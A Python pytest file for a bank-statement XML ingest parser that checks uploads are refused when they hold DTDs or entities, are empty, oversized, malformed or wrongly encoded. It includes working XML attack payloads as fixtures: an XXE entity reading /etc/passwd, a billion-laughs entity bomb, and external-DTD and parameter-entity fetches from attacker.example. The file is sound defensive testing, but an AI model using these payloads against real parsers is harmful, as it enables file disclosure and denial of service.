"""Uploaded XML is untrusted: size first, no DTD or entity ever, errors with line and column."""

from __future__ import annotations

import pytest
from ingest_factories import Entry, Statement, camt_file

from bankrec.ingest.domain import parse_statement_file
from bankrec.ingest.domain.parsers.safe_xml import PARSER_OPTIONS, XmlEvents
from bankrec.ingest.errors import (
    EmptyStatementFile,
    ForbiddenXmlConstruct,
    NotXml,
    StatementTooLarge,
)

NS = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"

XXE = f"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Document xmlns="{NS}"><BkToCstmrStmt><Stmt><Id>&secret;</Id></Stmt></BkToCstmrStmt></Document>
""".encode()

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>
"""

EXTERNAL_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE Document SYSTEM "http://attacker.example/x.dtd"><Document/>'
)

PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><d/>'
)


def parse(data: bytes, upload_bytes_max: int = 50 * 1024 * 1024) -> object:
    return parse_statement_file(data, tenant_id="t-safety", upload_bytes_max=upload_bytes_max)


@pytest.mark.parametrize(
    "data",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"],
)
def test_dtd_and_entities_are_refused_before_parsing(data: bytes) -> None:
    with pytest.raises(ForbiddenXmlConstruct) as refused:
        parse(data)
    assert refused.value.code == "forbidden_dtd"
    assert "DOCTYPE or ENTITY" in refused.value.message


def test_a_utf16_file_with_a_doctype_is_refused() -> None:
    data = XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    with pytest.raises(ForbiddenXmlConstruct):
        parse(b"\xff\xfe" + data.encode("utf-16-le"))


@pytest.mark.parametrize("data", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "laughs", "dtd"])
def test_the_parser_itself_refuses_a_doctype_that_slipped_past_the_byte_check(
    data: bytes,
) -> None:
    """Defence in depth: the streaming reader refuses a DOCTYPE from the parser's view."""
    with pytest.raises(ForbiddenXmlConstruct):
        for _event in XmlEvents(data):
            pass


def test_parser_options_refuse_entities_network_and_dtds() -> None:
    assert PARSER_OPTIONS["resolve_entities"] is False
    assert PARSER_OPTIONS["no_network"] is True
    assert PARSER_OPTIONS["load_dtd"] is False
    assert PARSER_OPTIONS["huge_tree"] is False


@pytest.mark.parametrize(
    "data",
    [b"", b"   \n\t ", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n"],
    ids=["empty", "blank", "bom", "bom-newline"],
)
def test_an_empty_file_is_refused(data: bytes) -> None:
    with pytest.raises(EmptyStatementFile) as refused:
        parse(data)
    assert refused.value.code == "empty_file"


def test_a_file_over_the_byte_limit_is_refused_before_parsing() -> None:
    data = camt_file(Statement(entries=[Entry()]))
    with pytest.raises(StatementTooLarge) as refused:
        parse(data, upload_bytes_max=len(data) - 1)
    assert refused.value.code == "too_large"
    assert f"{len(data) - 1:,} bytes" in refused.value.message
    assert parse(data, upload_bytes_max=len(data))  # exactly at the limit is fine


def test_text_that_is_not_xml_is_refused_with_its_position() -> None:
    with pytest.raises(NotXml) as refused:
        parse(b"Date;Amount;Text\n2026-11-20;100,00;Faktura 1\n")
    assert refused.value.code == "not_xml"
    assert (refused.value.line, refused.value.column) == (1, 1)
    assert "line 1, column 1" in refused.value.message


def test_truncated_xml_names_the_line() -> None:
    data = camt_file(Statement(entries=[Entry()]))
    truncated = data[: len(data) // 2]
    with pytest.raises(NotXml) as refused:
        parse(truncated)
    assert refused.value.line is not None
    assert refused.value.line >= 1
    assert refused.value.details()["line"] == refused.value.line


def test_bytes_that_are_not_the_declared_encoding_are_refused() -> None:
    data = camt_file(Statement(entries=[Entry()])).replace(b"NORDISK", b"N\xf8RDISK")
    with pytest.raises(NotXml, match=r"(?i)utf-8|encoding"):
        parse(data)


def test_a_latin1_file_that_says_so_is_read() -> None:
    data = (
        camt_file(Statement(entries=[Entry()]))
        .replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')
        .replace(b"NORDISK VERKSTED", b"N\xd8RDISK VERKSTED")
    )
    result = parse_statement_file(data, tenant_id="t-safety")
    assert result.statements[0].header.account.owner_name == "N\u00d8RDISK VERKSTED AS"
